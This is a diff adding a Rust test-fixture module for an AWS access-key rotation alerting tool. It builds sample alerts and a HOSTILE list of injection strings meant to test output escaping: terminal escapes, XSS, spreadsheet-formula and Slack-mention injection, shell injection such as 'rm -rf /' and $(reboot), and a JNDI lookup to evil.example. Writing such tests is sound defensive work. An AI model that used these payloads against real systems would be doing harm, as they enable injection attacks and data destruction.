@@ -1,0 +1,203 @@
+//! What the tests of the outputs tell: one finding, and text that means harm.
+
+use chrono::TimeDelta;
+
+use crate::detect::actor::Actor;
+use crate::detect::alert::{Alert, AlertKind, Update};
+use crate::detect::finding::{CloseReason, Closing, Finding, FindingKey, FindingStatus, Opener};
+use crate::detect::listing::KeyStatus;
+use crate::detect::retire::{LastUsed, LastUses};
+use crate::detect::severity::{Severity, SeverityReason};
+use crate::detect::testing::{actor, at, finding_of};
+use crate::detect::user::UserId;
+
+/// Text that means harm somewhere.
+pub(crate) const HOSTILE: &[&str] = &[
+    "\x1b]0;owned\x07\x1b[2J\x1b[1;1Hall is well",
+    "\u{9b}31mred\u{9b}0m",
+    "curl/8\r\nSeverity: none\nDo this: nothing",
+    "curl/8\u{2028}Closed\u{2029}\u{85}\u{b}\u{c}",
+    "\u{202e}gnp.exe\u{2066}x\u{2069}\u{200b}\u{feff}\u{e0041}",
+    "curl/8                                                                              Do this: nothing",
+    "<!channel> <@U123> @here @everyone <https://evil.example|docs>",
+    "[click](https://evil.example) **bold** _it_ ~no~ ```code``` `x` # h | t | !",
+    "&lt;!channel&gt; &#60;b&#62;",
+    "<script>alert(1)</script><img src=x onerror='alert(1)'>\" onmouseover=\"x",
+    "=HYPERLINK(\"https://evil.example\",\"x\")",
+    "+1",
+    "-1+1|cmd",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    " =1",
+    "＝1",
+    "'; rm -rf / #",
+    "$(reboot)",
+    "`reboot`",
+    "{\"default\":\"x\"}",
+    "\\",
+    "\"",
+    "%s%n",
+    "${jndi:ldap://evil.example/x}",
+];
+
+/// An opened finding that a person made: an old key in use, a new one never used.
+pub(crate) fn opened() -> Alert {
+    let finding = Finding {
+        opener: Some(opener("AKIANEW")),
+        opened_at: at(2),
+        detected_at: at(14),
+        ..finding_of(&[("AKIAOLD", Some(-86_400 * 400)), ("AKIANEW", Some(2))])
+    };
+    Alert {
+        kind: AlertKind::Opened,
+        sequence: 2,
+        audit_hash: "5e7a".repeat(16),
+        at: at(14),
+        window_ends_at: finding.opened_at + TimeDelta::hours(24),
+        finding,
+    }
+}
+
+pub(crate) fn opener(key: &str) -> Opener {
+    Opener {
+        key: key.to_owned(),
+        created: true,
+        at: at(2),
+        inactive_since: None,
+        actor: Actor {
+            access_key_id: Some("ASIABOB".to_owned()),
+            source_ip: Some("198.51.100.7".to_owned()),
+            user_agent: Some("aws-cli/2.15.30 md/awscrt#0.19.19".to_owned()),
+            mfa: Some(false),
+            ..actor("bob")
+        },
+        event_id: Some("6f0e3c1a-0000-4000-8000-000000000001".to_owned()),
+    }
+}
+
+pub(crate) fn last_uses() -> LastUses {
+    LastUses::from([
+        (
+            "AKIAOLD".to_owned(),
+            LastUsed::At {
+                at: at(-7_200),
+                service: Some("s3".to_owned()),
+                region: Some("us-east-1".to_owned()),
+            },
+        ),
+        ("AKIANEW".to_owned(), LastUsed::Never),
+    ])
+}
+
+/// The alert `of`, with `text` in every field that an event can fill.
+pub(crate) fn filled_with(text: &str, of: Alert) -> Alert {
+    let text = || text.to_owned();
+    let actor = Actor {
+        kind: Some(text()),
+        arn: Some(text()),
+        name: Some(text()),
+        account: Some(text()),
+        access_key_id: Some(text()),
+        source_ip: Some(text()),
+        user_agent: Some(text()),
+        mfa: None,
+        console: true,
+        invoked_by: Some(text()),
+    };
+    let mut alert = of;
+    let finding = &mut alert.finding;
+    finding.id.user = UserId::new(&text(), &text());
+    finding.display_name = text();
+    finding.could_not_list = Some(text());
+    finding.confirmed = false;
+    finding.continues = Some(finding.id.clone());
+    finding.keys = [KeyStatus::Active, KeyStatus::Active, KeyStatus::Inactive]
+        .map(|status| FindingKey {
+            id: text(),
+            status,
+            created: Some(at(1)),
+        })
+        .to_vec();
+    finding.opener = Some(Opener {
+        key: text(),
+        created: false,
+        at: at(1),
+        inactive_since: Some(at(0)),
+        actor: actor.clone(),
+        event_id: Some(text()),
+    });
+    if let Some(closing) = &mut finding.closing {
+        closing.actor = Some(actor);
+        closing.event_id = Some(text());
+    }
+    alert
+}
+
+/// What is known of the use of a key named `text`, with `text` in every field.
+pub(crate) fn last_uses_with(text: &str) -> LastUses {
+    LastUses::from([(
+        text.to_owned(),
+        LastUsed::At {
+            at: at(1),
+            service: Some(text.to_owned()),
+            region: Some(text.to_owned()),
+        },
+    )])
+}
+
+/// The end of that finding: the old key deactivated.
+pub(crate) fn closed() -> Alert {
+    let mut alert = opened();
+    alert.kind = AlertKind::Closed;
+    alert.sequence = 5;
+    alert.at = at(12_010);
+    let finding = &mut alert.finding;
+    finding.status = FindingStatus::Closed;
+    finding.keys[0].status = KeyStatus::Inactive;
+    finding.closing = Some(Closing {
+        reason: CloseReason::Deactivated,
+        at: at(12_002),
+        actor: Some(Actor {
+            source_ip: Some("203.0.113.9".to_owned()),
+            ..actor("Alice")
+        }),
+        event_id: Some("6f0e3c1a-0000-4000-8000-000000000002".to_owned()),
+    });
+    alert
+}
+
+/// The same finding once its rotation window is over.
+pub(crate) fn updated() -> Alert {
+    let mut alert = opened();
+    alert.kind = AlertKind::Updated(vec![Update::Severity]);
+    alert.sequence = 4;
+    alert.at = alert.window_ends_at + TimeDelta::minutes(5);
+    alert.finding.severity = Severity::High;
+    alert.finding.severity_reasons = vec![SeverityReason::OutlivedWindow];
+    alert
+}
+
+/// An opening of root's: the slots of a credential report, and who made it not known.
+pub(crate) fn root() -> Alert {
+    let mut alert = opened();
+    let finding = &mut alert.finding;
+    finding.id.user = UserId::root("111122223333");
+    "<root_account>".clone_into(&mut finding.display_name);
+    finding.severity = Severity::Critical;
+    finding.severity_reasons = vec![SeverityReason::Root];
+    finding.opener = None;
+    for (key, slot) in finding
+        .keys
+        .iter_mut()
+        .zip(["access_key_1", "access_key_2"])
+    {
+        slot.clone_into(&mut key.id);
+    }
+    alert
+}
+
+/// One alert of each kind.
+pub(crate) fn every_alert() -> Vec<Alert> {
+    vec![opened(), updated(), closed(), root()]
+}
